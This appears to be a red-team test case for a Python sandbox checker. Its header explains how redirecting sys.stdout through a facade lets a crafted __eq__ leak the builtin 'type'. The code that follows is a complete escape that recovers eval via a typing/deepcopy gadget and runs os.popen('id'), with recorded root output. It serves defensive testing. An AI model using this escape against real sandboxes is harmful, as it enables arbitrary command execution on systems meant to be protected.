# expect: reject class_value
# line: 39
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fifteenth red team (round 15a), family S: a module attribute taken for a fixed library object although a facade makes it the program's own (sys.stdout/sys.stderr under contextlib.redirect_stdout/redirect_stderr): == and `in` with a class accept only classes the rules' tables name (the red team's program, ok_01)
# Mechanism: rule class_value lets a class by value be compared with == against anything class_like 
# calls 'a class or library object', and class_like accepts ANY attribute of a module 
# (wk_resolve_module of the object). But sys.stdout is whatever the program put there with 
# contextlib.redirect_stdout(g) (a facade the checker allows): type(P) == sys.stdout is then 
# type.__eq__(g) -> NotImplemented -> the reflected Grab.__eq__(type), program code, receives the 
# builtin type and raises it out. No dunder name is given to a builtin at run time.
# Goal reached: the builtin type by value, then eval by value (typing._GenericAlias + copy.deepcopy with 
#   name='__builtins__', the 11b end gadget), called: runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD 7bb35ca
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import contextlib
import copy
import sys
import typing

class P:
    pass

class Grab:
    def __eq__(self, other):
        raise LookupError(other)

    def write(self, s):
        return len(s)

    def flush(self):
        return None

g = Grab()
try:
    with contextlib.redirect_stdout(g):
        type(P) == sys.stdout
except Exception as e:
    T = e.args[0]
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
